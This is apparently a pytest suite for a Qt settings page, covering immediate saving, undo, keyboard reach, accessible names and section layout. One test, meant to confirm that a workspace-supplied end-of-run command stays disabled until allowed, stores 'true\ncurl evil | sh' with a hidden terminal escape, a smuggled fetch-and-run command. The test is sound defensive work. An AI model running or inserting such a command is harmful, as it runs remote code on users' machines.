"""The Settings page: changes are stored at once and can be undone; sections, keyboard, names, hiding."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import (
    QAbstractButton,
    QAbstractItemView,
    QApplication,
    QComboBox,
    QLabel,
    QLineEdit,
    QSpinBox,
    QWidget,
)
from pytestqt.qtbot import QtBot

from iterand_engine.machine.allowed import Allowed
from iterand_engine.machine.settings import Settings
from iterand_engine.machine.workspace import open_workspace_dir
from iterand_gui.pages.settings.appearance import AppearanceSection
from iterand_gui.pages.settings.page import SECTIONS
from iterand_gui.pages.settings.slots import SlotsSection
from iterand_gui.pages.settings.test_set import TestSetSection
from iterand_gui.pages.settings.workspaces import WorkspaceSection
from iterand_gui.session.remembered import Remembered
from tests.gui.open_settings_page import OpenSettingsPage, opened


@pytest.fixture
def memory(tmp_path: Path) -> Remembered:
    return Remembered(tmp_path / "window.json")


@pytest.fixture
def gui(qtbot: QtBot, workspace_dir: Path, memory: Remembered) -> Iterator[OpenSettingsPage]:
    with opened(qtbot, workspace_dir, memory) as made:
        yield made


def test_that_a_change_is_stored_at_once_and_reported(gui: OpenSettingsPage) -> None:
    slots = gui.section(SlotsSection)
    with gui.qtbot.waitSignal(gui.session.settings_changed) as signal:
        slots.per_device.setValue(3)
    assert signal.args == [gui.stored]
    assert gui.stored.slots_per_device == gui.session.settings.slots_per_device == 3
    assert slots.per_device_row.note.text == "Stored."


def test_that_a_change_can_be_undone(gui: OpenSettingsPage) -> None:
    slots = gui.section(SlotsSection)
    slots.cpu_slot.setCurrentIndex(2)
    gui.until(lambda: gui.stored.cpu_slot is False)
    gui.settle()
    slots.cpu_slot_row.note.button.click()
    gui.settle()
    assert gui.stored.cpu_slot == "auto"
    assert slots.cpu_slot.currentIndex() == 0
    assert slots.cpu_slot_row.note.text == "Undone."
    assert slots.cpu_slot_row.note.button.isHidden()


def test_that_changes_in_a_row_are_stored_in_their_order(gui: OpenSettingsPage) -> None:
    slots = gui.section(SlotsSection)
    for count in (5, 7, 2):
        slots.per_device.setValue(count)
    slots.cpu_share.setValue(4)
    gui.settle()
    assert gui.stored == Settings(slots_per_device=2, cpu_share=4)
    slots.per_device_row.note.button.click()
    gui.settle()
    assert gui.stored == Settings(slots_per_device=7, cpu_share=4)


def test_that_what_another_program_changed_is_kept_and_shown(gui: OpenSettingsPage) -> None:
    lock = gui.section(TestSetSection)
    Settings(cpu_share=2, slots_per_device=4).save(gui.workspace)
    lock.lock.click()
    gui.settle()
    assert gui.stored == Settings(cpu_share=2, slots_per_device=4, test_lock=True)
    Settings(slots_per_device=6).save(gui.workspace)
    gui.page.refresh()
    gui.settle()
    assert not lock.lock.isChecked()
    assert gui.section(SlotsSection).per_device.value() == 6


def test_that_a_refused_change_is_reported_in_words_and_taken_back(gui: OpenSettingsPage) -> None:
    slots = gui.section(SlotsSection)
    gui.workspace.settings_path.write_text("slots_per_device: [", encoding="utf-8")
    slots.per_device.setValue(9)
    gui.settle()
    note = slots.per_device_row.note
    assert "is not valid YAML" in note.text
    assert note.button.isHidden()
    assert slots.per_device.value() == 1
    assert gui.workspace.settings_path.read_text(encoding="utf-8") == "slots_per_device: ["


def test_that_the_command_at_the_end_is_stored_when_it_was_typed(gui: OpenSettingsPage) -> None:
    slots = gui.section(SlotsSection)
    slots.on_end.setFocus()
    QTest.keyClicks(slots.on_end, "notify 'a run, done'")
    assert gui.stored.on_end == ""
    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
    gui.settle()
    assert gui.stored.on_end == "notify 'a run, done'"
    assert Allowed.load(gui.workspace).allows_command("notify 'a run, done'")
    assert slots.on_end_off.text == ""
    assert not slots.allow.isVisible()
    slots.on_end.clear()
    QTest.keyClicks(slots.on_end, "another")
    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
    gui.settle()
    slots.on_end_row.note.button.click()
    gui.settle()
    assert gui.stored.on_end == "notify 'a run, done'"
    assert slots.on_end_off.text == "", "what was allowed is so again after an undo"


def test_that_a_command_that_came_with_the_workspace_is_off_until_it_is_allowed(
    gui: OpenSettingsPage,
) -> None:
    command = "true\ncurl evil | sh \x1b[8m"
    Settings(on_end=command).save(gui.workspace)
    slots = gui.section(SlotsSection)
    gui.page.refresh()
    gui.settle()
    assert "nobody allowed this command" in slots.on_end_off.text
    assert slots.on_end_off.text.endswith(r"The command: true\ncurl evil | sh \x1b[8m")
    slots.on_end.setFocus()
    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
    gui.settle()
    assert gui.stored.on_end == command, "nobody wrote what the line made of it"
    assert not Allowed.load(gui.workspace).allows_command(command)
    slots.on_end.clear()
    QTest.keyClicks(slots.on_end, "mine")
    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
    gui.settle()
    slots.on_end_row.note.button.click()
    gui.settle()
    assert gui.stored.on_end == command
    assert not Allowed.load(gui.workspace).allows_command(command), "nor does an undo allow it"
    QTest.mouseClick(slots.allow, Qt.MouseButton.LeftButton)
    gui.settle()
    assert Allowed.load(gui.workspace).allows_command(command)
    assert (slots.on_end_off.text, slots.allow.isVisible()) == ("", False)


def test_that_the_test_set_is_locked_by_one_switch(gui: OpenSettingsPage) -> None:
    section = gui.section(TestSetSection)
    for locked in (True, False):
        section.lock.click()
        gui.settle()
        assert gui.stored.test_lock is section.lock.isChecked() is locked


def test_that_the_theme_is_asked_for_and_follows_what_is_chosen_elsewhere(
    gui: OpenSettingsPage, memory: Remembered
) -> None:
    memory.put("theme", "dark")
    section = gui.section(AppearanceSection)
    assert section.buttons["dark"].isChecked()
    asked: list[str] = []
    gui.session.actions.choose_theme.connect(asked.append)
    section.buttons["light"].click()
    assert asked == ["light"]
    gui.session.actions.choose_theme.emit("system")
    assert section.buttons["system"].isChecked()
    assert asked == ["light", "system"]


def test_that_other_workspaces_that_are_still_there_can_be_opened(
    gui: OpenSettingsPage, memory: Remembered, tmp_path: Path
) -> None:
    other = open_workspace_dir(tmp_path / "other").root
    memory.put("workspaces", (str(gui.workspace.root), str(tmp_path / "gone"), str(other)))
    section = gui.section(WorkspaceSection)
    assert [section.recent.item(row).text() for row in range(section.recent.count())] == [str(other)]
    with gui.qtbot.waitSignal(gui.session.actions.open_workspace) as asked:
        section.open.click()
    assert asked.args == [str(other)]
    with gui.qtbot.waitSignal(gui.session.actions.ask_workspace):
        section.other.click()


def test_that_without_other_workspaces_only_the_way_to_one_is_shown(gui: OpenSettingsPage) -> None:
    section = gui.section(WorkspaceSection)
    assert not section.recent.isVisible()
    assert not section.open.isVisible()
    assert section.none.isVisible()
    assert section.other.isVisible()


def test_that_the_section_in_view_is_remembered_and_can_be_asked_for(gui: OpenSettingsPage) -> None:
    gui.page.take("disk")
    assert gui.page.save_state() == {"section": "disk"}
    gui.page.restore_state({"section": "workspace"})
    assert gui.page.save_state() == {"section": "workspace"}
    for strange in ({}, {"section": "no such"}, {"section": 7}):
        gui.page.restore_state(strange)
        assert gui.page.save_state() == {"section": SECTIONS[0].key}
    gui.settle()


def test_that_commands_lead_to_every_section(gui: OpenSettingsPage) -> None:
    for section in SECTIONS:
        command = next(c for c in gui.page.commands() if c.text == f"Settings: {section.title}")
        command.run()
        assert isinstance(gui.page.section, section)
    gui.settle()


def test_that_a_page_that_is_hidden_asks_for_nothing(gui: OpenSettingsPage) -> None:
    for section in SECTIONS:
        gui.page.take(section.key)
        gui.settle()
    gui.page.hiding()
    begun: list[None] = []
    gui.session.jobs.changed.connect(lambda: begun.append(None))
    gui.session.watcher.slots_changed.emit(())
    gui.session.extensions_changed.emit()
    gui.session.take_settings(Settings(slots_per_device=5))
    QApplication.instance().applicationStateChanged.emit(Qt.ApplicationState.ApplicationActive)  # type: ignore[union-attr]
    gui.add_run()
    gui.until(lambda: gui.session.watcher.runs)
    assert not begun
    gui.page.showing()


def test_that_coming_back_to_the_window_reads_the_settings_again(gui: OpenSettingsPage) -> None:
    slots = gui.section(SlotsSection)
    Settings(slots_per_device=8).save(gui.workspace)
    QApplication.instance().applicationStateChanged.emit(Qt.ApplicationState.ApplicationActive)  # type: ignore[union-attr]
    gui.until(lambda: slots.per_device.value() == 8)


def test_that_every_control_has_a_name_and_texts_are_plain(gui: OpenSettingsPage) -> None:
    (gui.workspace.extensions_dir / "mine.py").write_text("x = 1\n", encoding="utf-8")
    gui.add_run(size_bytes=2_000_000)
    for kind in SECTIONS:
        section = gui.section(kind)
        for label in section.findChildren(QLabel):
            assert label.textFormat() is Qt.TextFormat.PlainText, label.text()
        for control in controls(section):
            text = control.text() if isinstance(control, QAbstractButton) else ""
            assert control.accessibleName() or text, (kind, control)


def test_that_every_section_fits_into_a_narrow_window(gui: OpenSettingsPage) -> None:
    gui.add_run(size_bytes=2_000_000)
    for kind in SECTIONS:
        section = gui.section(kind)
        assert section.minimumSizeHint().width() <= 600, kind
        assert section.width() <= gui.page.width() - gui.page.section_list.width(), kind


def test_that_tab_reaches_every_control(gui: OpenSettingsPage) -> None:
    (gui.workspace.extensions_dir / "mine.py").write_text("x = 1\n", encoding="utf-8")
    for kind in SECTIONS:
        section = gui.section(kind)
        gui.page.activateWindow()
        gui.page.setFocus()
        reached: set[QWidget | None] = set()
        for _ in range(60):
            QTest.keyClick(gui.page.window().focusWidget(), Qt.Key.Key_Tab)
            reached.add(QApplication.focusWidget())
        wanted = {
            control
            for control in controls(section)
            if control.isEnabled() and control.focusPolicy() & Qt.FocusPolicy.TabFocus
        }
        if kind is AppearanceSection:  # radio buttons: one for Tab, arrow keys for the others
            assert wanted & reached
        else:
            assert wanted <= reached, [control.accessibleName() for control in wanted - reached]


def controls(section: QWidget) -> list[QWidget]:
    """What a user can use of a section now; not the parts that Qt itself makes of a control."""
    kinds = (QAbstractButton, QAbstractItemView, QComboBox, QLineEdit, QSpinBox)
    return [
        widget
        for widget in section.findChildren(QWidget)
        if isinstance(widget, kinds)
        and widget.isVisible()
        and not isinstance(widget.parentWidget(), QSpinBox | QComboBox | QAbstractItemView)
        and not widget.objectName().startswith("qt_")
    ]
